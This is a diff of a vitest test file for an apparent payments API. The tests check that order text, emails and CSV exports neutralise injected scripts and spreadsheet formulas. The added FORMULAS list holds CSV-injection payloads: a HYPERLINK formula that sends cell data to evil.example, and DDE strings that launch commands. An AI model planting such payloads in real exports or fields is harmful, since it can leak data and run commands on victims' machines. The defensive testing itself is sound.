@@ -2,8 +2,21 @@ import { api } from '@paydeck/contract/api'
 import type { OrderRequest } from '@paydeck/contract/calls/orders'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 
+import { SCRIPT_INJECTIONS } from '../../contract/test/script-injections.ts'
 import { startWorld, type TestMerchant, type World } from './harness.ts'
-import { FORMULAS, SCRIPTS } from './injection.ts'
+import { readCsv } from './money/csv.ts'
+
+/** What a spreadsheet would work out. */
+const FORMULAS = [
+  `=1+1`,
+  `=HYPERLINK("https://evil.example?x="&A1,"click")`,
+  `=cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `+1+1`,
+  `-2+3+cmd|' /C calc'!D2`,
+  `\t=1+1`,
+  `＝1+1`,
+]
 
 let world: World
 beforeAll(async () => {
@@ -36,27 +49,29 @@ async function create(
 test('items and custom fields are kept to the letter and come back as text', async () => {
   const merchant = await world.merchant()
   const { call, merchantId } = merchant
-  const items = SCRIPTS.map((description) => ({
+  const items = SCRIPT_INJECTIONS.map((description) => ({
     description,
     quantity: 1,
     amount: 100,
     currency: 'AUD' as const,
   }))
-  const metadata = Object.fromEntries(SCRIPTS.map((text, at) => [`field ${at}`, text]))
+  const metadata = Object.fromEntries(SCRIPT_INJECTIONS.map((text, at) => [`field ${at}`, text]))
   const merchantOrderId = await create(merchant, {
     items,
     metadata,
     paymentAmount: { amount: 100 * items.length, currency: 'AUD' },
   })
   const { data } = await call(api.getOrder, { merchantId, merchantOrderId })
-  expect(data.items.map(({ description }) => description)).toEqual(SCRIPTS)
-  expect(data.customFields.map(({ value }) => value).toSorted()).toEqual([...SCRIPTS].toSorted())
+  expect(data.items.map(({ description }) => description)).toEqual(SCRIPT_INJECTIONS)
+  expect(data.customFields.map(({ value }) => value).toSorted()).toEqual(
+    [...SCRIPT_INJECTIONS].toSorted(),
+  )
 })
 
 test('what an order says is text in the mail about it', async () => {
   const merchant = await world.merchant()
   const { merchantId } = merchant
-  const markup = SCRIPTS.filter((text) => text.includes('<'))
+  const markup = SCRIPT_INJECTIONS.filter((text) => text.includes('<'))
   for (const [at, text] of markup.entries())
     await create(
       merchant,
@@ -84,10 +99,10 @@ test('what an order says is text in the mail about it', async () => {
   for (const { html } of mails) expect(html).not.toMatch(/href="\s*(?:javascript|data):/i)
 })
 
-test('BEY-04 no word of an order is a formula or a line of its own in the file', async () => {
+test('BEY-04 no word of an order is a formula in the file, or breaks out of its cell', async () => {
   const merchant = await world.merchant()
   const { merchantId } = merchant
-  const words = [...FORMULAS, ...SCRIPTS.slice(0, 4)]
+  const words = [...FORMULAS, ...SCRIPT_INJECTIONS.filter((text) => /^[-"]|\n/.test(text))]
   for (const number of words)
     await (await merchant.order({ amount: 1_000, number })).pay('4242424242424242')
   const day = (days: number) =>
@@ -97,8 +112,9 @@ test('BEY-04 no word of an order is a formula or a line of its own in the file',
     headers: { authorization: `Bearer ${merchant.token}` },
   })
   const text = (await answer.text()).replace(/^\uFEFF/, '')
-  expect(text.trimEnd().split(/\r?\n/)).toHaveLength(words.length + 1)
-  for (const line of text.trimEnd().split(/\r?\n/).slice(1))
-    expect(line).toMatch(/^(?:"'|"|')?[^=+\-@\t＝]/)
-  for (const formula of FORMULAS) expect(text).toContain(`'${formula.replaceAll('"', '""')}`)
+  const lines = readCsv(text)
+  expect(lines).toHaveLength(words.length)
+  const cells = lines.flatMap((line) => Object.values(line))
+  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝]/)
+  for (const word of words) expect(cells).toContain(/^[=+\-@\t＝]/.test(word) ? `'${word}` : word)
 })
